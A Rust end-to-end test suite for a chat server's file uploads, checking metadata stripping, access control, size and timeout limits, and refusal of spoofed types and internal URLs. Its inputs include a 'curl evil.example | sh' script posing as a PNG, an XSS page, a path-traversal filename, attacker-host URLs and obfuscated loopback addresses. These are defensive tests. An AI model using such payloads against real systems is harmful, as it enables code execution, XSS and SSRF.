//! Files in conversations end to end, on the local directory store: an upload with its
//! type decided by content and its picture metadata stripped, attached by a chat frame,
//! downloaded by each kind of reader (and refused to everyone else), ranges, a spoofed
//! type, an oversized and a stalled upload (nothing kept of either), and a client URL
//! naming an internal host.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU32, Ordering};

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{TestApp, WAIT, admin_token, spawn_app, token};

const BOUNDARY: &str = "chatbox-test-boundary";

/// A PNG chunk (the CRC is not checked by the server).
fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut bytes = u32::try_from(data.len()).expect("short").to_be_bytes().to_vec();
    bytes.extend_from_slice(kind);
    bytes.extend_from_slice(data);
    bytes.extend_from_slice(&[0xAA, 0xBB, 0xCC, 0xDD]);
    bytes
}

/// A PNG with a location in a text chunk, and the same PNG as it must be stored.
fn png_with_location() -> (Vec<u8>, Vec<u8>) {
    let mut sent = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut stored = sent.clone();
    for (part, kept) in [
        (chunk(b"IHDR", &[0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0]), true),
        (chunk(b"tEXt", b"Location\0Paris 48.85N 2.35E"), false),
        (chunk(b"IDAT", &[0x78, 0x9C, 1, 2, 3, 4, 5, 6, 7, 8]), true),
        (chunk(b"IEND", b""), true),
    ] {
        sent.extend_from_slice(&part);
        if kept {
            stored.extend_from_slice(&part);
        }
    }
    (sent, stored)
}

/// A fresh directory for one server's uploads.
fn upload_dir() -> PathBuf {
    static NEXT: AtomicU32 = AtomicU32::new(0);
    let dir = std::env::temp_dir().join(format!(
        "chatbox-e2e-files-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    ));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Every regular file under `dir`, at any depth.
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(next) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&next) else { continue };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                pending.push(path);
            } else {
                found.push(path);
            }
        }
    }
    found
}

async fn spawn_with_uploads(dir: &Path, extra: &[(&str, &str)]) -> TestApp {
    let dir = dir.to_str().expect("utf-8 path").to_owned();
    let mut vars: Vec<(&str, &str)> = vec![("UPLOAD_DIR", dir.as_str())];
    vars.extend_from_slice(extra);
    spawn_app(&vars).await
}

/// The multipart body holding `content` as the field `file` named `name`.
fn multipart(name: &str, content: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(content);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

/// Sends raw request bytes; returns status, head (lower case) and body bytes.
async fn exchange(app: &TestApp, request: &[u8]) -> (u16, String, Vec<u8>) {
    let (status, head, body) = exchange_with(app.address, request).await;
    (status, head.to_ascii_lowercase(), body)
}

/// Sends raw request bytes to `address`; returns status, head (as sent) and body bytes.
async fn exchange_with(address: std::net::SocketAddr, request: &[u8]) -> (u16, String, Vec<u8>) {
    let talk = async {
        let mut stream = TcpStream::connect(address).await.expect("connect");
        // The server may answer and close while a refused body is still being written:
        // what it answered is what counts.
        let _ = stream.write_all(request).await;
        read_response(&mut stream).await
    };
    tokio::time::timeout(WAIT, talk).await.expect("answered in time")
}

/// Reads one response: its head, then as many body bytes as its `Content-Length` says
/// (or to the end), without waiting for the connection to close.
async fn read_response(stream: &mut TcpStream) -> (u16, String, Vec<u8>) {
    let mut response = Vec::new();
    let mut buffer = vec![0u8; 16 * 1024];
    loop {
        if let Some(split) = response.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&response[..split]).into_owned();
            let length = head
                .to_ascii_lowercase()
                .lines()
                .find_map(|line| line.strip_prefix("content-length:"))
                .and_then(|value| value.trim().parse::<usize>().ok());
            if length.is_some_and(|length| response.len() >= split + 4 + length) {
                let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).expect("status line");
                let end = split + 4 + length.unwrap_or_default();
                return (status, head, response[split + 4..end].to_vec());
            }
        }
        let read = stream.read(&mut buffer).await.unwrap_or(0);
        if read == 0 {
            let split = response.windows(4).position(|w| w == b"\r\n\r\n").expect("a whole head");
            let head = String::from_utf8_lossy(&response[..split]).into_owned();
            let status = head.split(' ').nth(1).and_then(|s| s.parse().ok()).expect("status line");
            return (status, head, response[split + 4..].to_vec());
        }
        response.extend_from_slice(&buffer[..read]);
    }
}

async fn upload(app: &TestApp, bearer: &str, name: &str, content: &[u8]) -> (u16, Value) {
    let body = multipart(name, content);
    let mut request = format!(
        "POST /chat/uploads HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {bearer}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    request.extend_from_slice(&body);
    let (status, _, body) = exchange(app, &request).await;
    (status, serde_json::from_slice(&body).unwrap_or(Value::Null))
}

async fn download(app: &TestApp, path: &str, headers: &[(&str, &str)]) -> (u16, String, Vec<u8>) {
    let extra: String = headers.iter().map(|(n, v)| format!("{n}: {v}\r\n")).collect();
    let request = format!("GET {path} HTTP/1.1\r\nHost: test\r\n{extra}Connection: close\r\n\r\n");
    exchange(app, request.as_bytes()).await
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

#[tokio::test]
async fn an_upload_is_attached_and_read_by_its_readers_and_nobody_else() {
    let dir = upload_dir();
    let app = spawn_with_uploads(&dir, &[]).await;
    let mut alice = app.connect("alice", "").await;
    let session = alice.session_id();
    alice.ask("hello").await;
    let (sent, stored) = png_with_location();
    let (status, uploaded) = upload(&app, &token("alice"), "../../cat photo.png", &sent).await;
    assert_eq!(status, 201, "{uploaded}");
    let file_id = uploaded["file_id"].as_str().expect("file_id").to_owned();
    assert_eq!(uploaded["file_url"], format!("/chat/files/{file_id}"));
    assert_eq!(uploaded["name"], "cat photo.png", "no directory part is kept");
    assert_eq!(uploaded["type"], "image/png");
    assert_eq!(uploaded["size"], stored.len(), "stored without its text chunk");
    let url = format!("/chat/files/{file_id}");

    // The uploader reads it at once; the bytes are the stripped picture.
    let (status, head, body) = download(&app, &url, &[("Authorization", &bearer(&token("alice")))]).await;
    assert_eq!(status, 200);
    assert_eq!(body, stored);
    assert!(!String::from_utf8_lossy(&body).contains("Paris"), "the location is gone");
    assert!(head.contains("content-type: image/png"), "{head}");
    assert!(head.contains("x-content-type-options: nosniff"), "{head}");
    assert!(head.contains("content-disposition: inline; filename=\"cat photo.png\""), "{head}");

    // Nobody else: another user, an admin who does not assist, no credential.
    let (status, _, _) = download(&app, &url, &[("Authorization", &bearer(&token("bob")))]).await;
    assert_eq!(status, 404, "bob");
    let (status, _, _) = download(&app, &url, &[("Authorization", &bearer(&admin_token("ada")))]).await;
    assert_eq!(status, 404, "an admin who does not assist the session");
    let (status, _, _) = download(&app, &url, &[]).await;
    assert_eq!(status, 401);

    // Bob cannot attach it; Alice can, by its id alone (the server sets its URL).
    let mut bob = app.connect("bob", "").await;
    bob.send(json!({"type": "file_upload", "file_id": file_id, "file_url": "https://evil.example/x"})).await;
    let refused = bob.frames_before_pong().await;
    assert!(refused.iter().any(|f| f["type"] == "error" && f["error"]["code"] == "NOT_FOUND"), "{refused:?}");
    alice
        .send(json!({"type": "file_upload", "session_id": session, "file_id": file_id,
            "file_url": "https://attacker.example/other", "content": "my cat",
            "metadata": {"filename": "lies.exe", "size": "1"}}))
        .await;
    // The session's actor stores turns in order: once the next answer is done, the
    // attachment before it is stored (a pong would only prove the frame was read).
    alice.ask("is it stored?").await;
    let (status, _, conversation) =
        app.json("GET", &format!("/chat/sessions/{session}"), Some(&token("alice"))).await;
    assert_eq!(status, 200);
    let attached = conversation["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .find(|m| m["file_id"] == file_id.as_str())
        .unwrap_or_else(|| panic!("the attachment is stored: {conversation}"))
        .clone();
    assert_eq!(attached["file_url"], url, "never the client's URL");
    assert_eq!(attached["metadata"]["filename"], "cat photo.png");
    assert_eq!(attached["metadata"]["size"], stored.len().to_string());
    assert_eq!(attached["metadata"]["type"], "image/png");
    // Attached to Alice's session, it stays there: not even Alice moves it.
    let mut other = app.connect("alice", "").await;
    other.send(json!({"type": "file_upload", "file_id": file_id})).await;
    let refused = other.frames_before_pong().await;
    assert!(refused.iter().any(|f| f["type"] == "error" && f["error"]["code"] == "NOT_FOUND"), "{refused:?}");

    // A share link's holder reads it; after revoking, not any more.
    let (status, _, share) =
        app.json("POST", &format!("/chat/sessions/{session}/share"), Some(&token("alice"))).await;
    assert_eq!(status, 200);
    let shared = format!("{url}?share_token={}", share["share_token"].as_str().expect("token"));
    let (status, _, body) = download(&app, &shared, &[]).await;
    assert_eq!((status, body.len()), (200, stored.len()));
    let (status, _, _) = download(&app, &format!("{url}?share_token=wrongtoken"), &[]).await;
    assert_eq!(status, 404);
    let (status, _, _) =
        app.json("DELETE", &format!("/chat/sessions/{session}/share"), Some(&token("alice"))).await;
    assert_eq!(status, 204);
    let (status, _, _) = download(&app, &shared, &[]).await;
    assert_eq!(status, 404, "a revoked link reads nothing");

    // Ranges.
    let alice_auth = bearer(&token("alice"));
    let (status, head, body) =
        download(&app, &url, &[("Authorization", &alice_auth), ("Range", "bytes=1-3")]).await;
    assert_eq!((status, body.as_slice()), (206, &stored[1..4]));
    assert!(head.contains(&format!("content-range: bytes 1-3/{}", stored.len())), "{head}");
    let (status, _, body) =
        download(&app, &url, &[("Authorization", &alice_auth), ("Range", "bytes=-2")]).await;
    assert_eq!((status, body.as_slice()), (206, &stored[stored.len() - 2..]));
    let past = format!("bytes={}-", stored.len());
    let (status, head, _) = download(&app, &url, &[("Authorization", &alice_auth), ("Range", &past)]).await;
    assert_eq!(status, 416);
    assert!(head.contains(&format!("content-range: bytes */{}", stored.len())), "{head}");
    app.stop().await;
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_script_named_png_is_refused_by_its_content_and_nothing_is_kept() {
    let dir = upload_dir();
    let app = spawn_with_uploads(&dir, &[]).await;
    let (status, body) =
        upload(&app, &token("alice"), "cat.png", b"#!/bin/sh\ncurl evil.example | sh\n").await;
    assert_eq!((status, body["code"].as_str()), (415, Some("UNSUPPORTED_MEDIA_TYPE")), "{body}");
    let (status, body) =
        upload(&app, &token("alice"), "page.png", b"<html><script>alert(1)</script></html>").await;
    assert_eq!((status, body["code"].as_str()), (415, Some("UNSUPPORTED_MEDIA_TYPE")), "{body}");
    let (status, body) = upload(&app, &token("alice"), "empty.png", b"").await;
    assert_eq!((status, body["code"].as_str()), (400, Some("BAD_REQUEST")), "{body}");
    assert_eq!(files_under(&dir), Vec::<PathBuf>::new(), "nothing stored");
    app.stop().await;
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn an_oversized_upload_is_cut_off_and_leaves_nothing_on_disk() {
    let dir = upload_dir();
    let app = spawn_with_uploads(&dir, &[("UPLOAD_MAX_BYTES", "4096")]).await;
    let mut big = png_with_location().0;
    big.resize(40_000, 7);
    let (status, body) = upload(&app, &token("alice"), "big.png", &big).await;
    assert_eq!((status, body["code"].as_str()), (413, Some("FILE_TOO_LARGE")), "{body}");
    // Declared far over the limit: refused before a byte of the body is read.
    let request = format!(
        "POST /chat/uploads HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: 10000000000\r\nConnection: close\r\n\r\n",
        token("alice")
    );
    let (status, _, body) = exchange(&app, request.as_bytes()).await;
    let body: Value = serde_json::from_slice(&body).expect("json");
    assert_eq!((status, body["code"].as_str()), (413, Some("FILE_TOO_LARGE")), "{body}");
    assert_eq!(files_under(&dir), Vec::<PathBuf>::new(), "no part of it stored");
    // A file within the limit still goes in.
    let (status, body) = upload(&app, &token("alice"), "small.png", &png_with_location().0).await;
    assert_eq!(status, 201, "{body}");
    app.stop().await;
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_stalled_upload_ends_with_408_and_leaves_nothing() {
    let dir = upload_dir();
    let app = spawn_with_uploads(&dir, &[("UPLOAD_TIMEOUT", "1s")]).await;
    let (png, _) = png_with_location();
    let body = multipart("slow.png", &png);
    let head = format!(
        "POST /chat/uploads HTTP/1.1\r\nHost: test\r\nAuthorization: Bearer {}\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        token("alice"),
        body.len() + 100_000
    );
    let talk = async {
        let mut stream = TcpStream::connect(app.address).await.expect("connect");
        stream.write_all(head.as_bytes()).await.expect("head");
        // Part of the file, then nothing: the server must give up by itself.
        stream.write_all(&body[..body.len() - 20]).await.expect("part");
        read_response(&mut stream).await
    };
    let (status, _, answer) = tokio::time::timeout(WAIT, talk).await.expect("the server ended the upload");
    let answer: Value = serde_json::from_slice(&answer).expect("json");
    assert_eq!((status, answer["code"].as_str()), (408, Some("UPLOAD_TIMEOUT")), "{answer}");
    assert_eq!(files_under(&dir), Vec::<PathBuf>::new(), "nothing kept");
    app.stop().await;
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_link_to_an_internal_host_is_refused_and_a_public_link_is_kept_as_a_link() {
    let app = spawn_app(&[]).await;
    let mut alice = app.connect("alice", "").await;
    alice.ask("hello").await;
    for internal in [
        "https://127.1/a",
        "https://0x7f.1/a",
        "https://10.1/a",
        "https://[fc00::1]/a",
        "https://a.localhost/x",
    ] {
        alice.send(json!({"type": "file_upload", "file_id": "client-1", "file_url": internal})).await;
        let frames = alice.frames_before_pong().await;
        assert!(
            frames.iter().any(|f| f["type"] == "error" && f["error"]["code"] == "INVALID_FORMAT"),
            "{internal}: {frames:?}"
        );
    }
    alice.send(json!({"type": "file_upload", "file_id": "client-2", "file_url": "https://files.example.com/a.pdf"})).await;
    let frames = alice.frames_before_pong().await;
    assert!(frames.iter().all(|f| f["type"] != "error"), "{frames:?}");
    app.stop().await;
}

#[tokio::test]
async fn an_uploaded_picture_reaches_a_model_that_sees_images_as_an_image_part() {
    use base64::Engine as _;

    use crate::fake_provider::{FakeProvider, Wire};
    let dir = upload_dir();
    let model = FakeProvider::start().await;
    model.push(Wire::OpenAi.answer(&["ok"], 5));
    model.push(Wire::OpenAi.answer(&["A", " cat."], 5));
    let endpoint = model.url("/v1");
    let app = spawn_with_uploads(
        &dir,
        &[
            ("LLM_PROVIDER_1_ID", "vision"),
            ("LLM_PROVIDER_1_TYPE", "openai"),
            ("LLM_PROVIDER_1_ENDPOINT", &endpoint),
            ("LLM_PROVIDER_1_API_KEY", "sk-test-0123456789"),
            ("LLM_PROVIDER_1_MODEL", "gpt-vision"),
            ("LLM_PROVIDER_1_DELAY", ""),
            ("LLM_PROVIDER_1_VISION", "true"),
        ],
    )
    .await;
    let mut alice = app.connect("alice", "").await;
    alice.ask("hello").await;
    let (sent, stored) = png_with_location();
    let (status, uploaded) = upload(&app, &token("alice"), "cat.png", &sent).await;
    assert_eq!(status, 201, "{uploaded}");
    alice.send(json!({"type": "file_upload", "file_id": uploaded["file_id"], "content": "my cat"})).await;
    let frames = alice.ask("what is in the picture?").await;
    assert_eq!(crate::support::answer_text(&frames), "A cat.");

    let requests = model.requests();
    let messages = requests.last().expect("the model was asked").body["messages"].clone();
    let data_url =
        format!("data:image/png;base64,{}", base64::engine::general_purpose::STANDARD.encode(&stored));
    let picture_turn = json!({"role": "user", "content": [
        {"type": "text", "text": format!("my cat [attachment: cat.png (image/png, {} bytes)]", stored.len())},
        {"type": "image_url", "image_url": {"url": data_url}},
    ]});
    let turns = messages.as_array().expect("messages");
    assert!(turns.contains(&picture_turn), "the stripped picture as an image part: {messages}");
    assert_eq!(turns.last(), Some(&json!({"role": "user", "content": "what is in the picture?"})));
    assert!(!messages.to_string().contains("/chat/files/"), "no URL of ours reaches the model");
    app.stop().await;
    let _ = std::fs::remove_dir_all(&dir);
}

/// The S3-compatible server of `scripts/s3.sh` (`S3_*`), or `None` (skipped outside CI).
fn s3() -> Option<Vec<(&'static str, String)>> {
    let Ok(endpoint) = std::env::var("S3_ENDPOINT") else {
        let required = std::env::var("CHATBOX_REQUIRE_S3").is_ok_and(|v| v == "1")
            || std::env::var("CI").is_ok_and(|v| v == "true");
        assert!(!required, "S3_ENDPOINT is not set but S3 is required: start scripts/s3.sh");
        eprintln!("S3 test skipped: S3_ENDPOINT is not set (eval \"$(scripts/s3.sh start)\")");
        return None;
    };
    let var = |name: &str, default: &str| std::env::var(name).unwrap_or_else(|_| default.to_owned());
    Some(vec![
        ("UPLOAD_STORE", "s3".to_owned()),
        ("UPLOAD_S3_ENDPOINT", endpoint),
        ("UPLOAD_S3_BUCKET", var("S3_BUCKET", "chatbox-test")),
        ("UPLOAD_S3_REGION", var("S3_REGION", "us-east-1")),
        ("UPLOAD_S3_ACCESS_KEY_ID", var("S3_ACCESS_KEY_ID", "chatbox-test-key-id")),
        ("UPLOAD_S3_SECRET_ACCESS_KEY", var("S3_SECRET_ACCESS_KEY", "chatbox-test-secret-access-key")),
    ])
}

#[tokio::test]
async fn on_s3_an_upload_is_stored_read_back_by_range_and_handed_out_by_a_presigned_url() {
    let Some(s3) = s3() else { return };
    let mut vars: Vec<(&str, &str)> = s3.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let app = spawn_app(&vars).await;
    let (sent, stored) = png_with_location();
    let (status, uploaded) = upload(&app, &token("alice"), "cat.png", &sent).await;
    assert_eq!(status, 201, "{uploaded}");
    let url = uploaded["file_url"].as_str().expect("url").to_owned();
    let alice = bearer(&token("alice"));
    let (status, head, body) = download(&app, &url, &[("Authorization", &alice)]).await;
    assert_eq!((status, body.as_slice()), (200, stored.as_slice()), "{head}");
    let (status, _, body) = download(&app, &url, &[("Authorization", &alice), ("Range", "bytes=8-15")]).await;
    assert_eq!((status, body.as_slice()), (206, &stored[8..16]));
    let (status, _, _) = download(&app, &url, &[("Authorization", &bearer(&token("bob")))]).await;
    assert_eq!(status, 404);
    // A script named .png never reaches the bucket either.
    let (status, _) = upload(&app, &token("alice"), "x.png", b"#!/bin/sh\n").await;
    assert_eq!(status, 415);
    app.stop().await;

    // With presigned downloads: a redirect to the bucket, which serves the bytes with
    // the headers stored at upload.
    vars.push(("UPLOAD_PRESIGNED_TTL", "1m"));
    let app = spawn_app(&vars).await;
    let (status, uploaded) = upload(&app, &token("alice"), "cat.png", &sent).await;
    assert_eq!(status, 201, "{uploaded}");
    let url = uploaded["file_url"].as_str().expect("url").to_owned();
    let request =
        format!("GET {url} HTTP/1.1\r\nHost: test\r\nAuthorization: {alice}\r\nConnection: close\r\n\r\n");
    let (status, head, _) = exchange_with(app.address, request.as_bytes()).await;
    assert_eq!(status, 302, "{head}");
    let location = head
        .lines()
        .find_map(|line| line.strip_prefix("location: ").or_else(|| line.strip_prefix("Location: ")))
        .expect("a location")
        .to_owned();
    let endpoint = s3.iter().find(|(k, _)| *k == "UPLOAD_S3_ENDPOINT").expect("endpoint").1.clone();
    let rest = location.strip_prefix(&endpoint).unwrap_or_else(|| panic!("{location} is not the bucket's"));
    let address = endpoint.trim_start_matches("http://").trim_end_matches('/').parse().expect("host:port");
    let request = format!(
        "GET {rest} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
        endpoint.trim_start_matches("http://")
    );
    let (status, head, body) = exchange_with(address, request.as_bytes()).await;
    assert_eq!((status, body.as_slice()), (200, stored.as_slice()), "{head}");
    let head = head.to_ascii_lowercase();
    assert!(head.contains("content-type: image/png"), "{head}");
    assert!(head.contains("content-disposition: inline; filename=\"cat.png\""), "{head}");
    app.stop().await;
}
